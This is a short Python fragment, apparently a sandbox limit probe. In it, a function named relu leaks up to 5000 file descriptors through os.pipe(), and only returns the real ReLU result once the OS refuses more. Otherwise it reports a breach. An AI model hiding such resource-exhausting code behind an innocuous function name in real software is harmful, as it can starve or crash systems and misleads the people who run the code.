"""Opens files and pipes until there are no more."""
kept = []


def relu(Z):
    try:
        while len(kept) < 5000:
            kept.extend(os.pipe())
    except OSError:
        return np.maximum(Z, 0.0)
    breached(f"{len(kept)} descriptors")
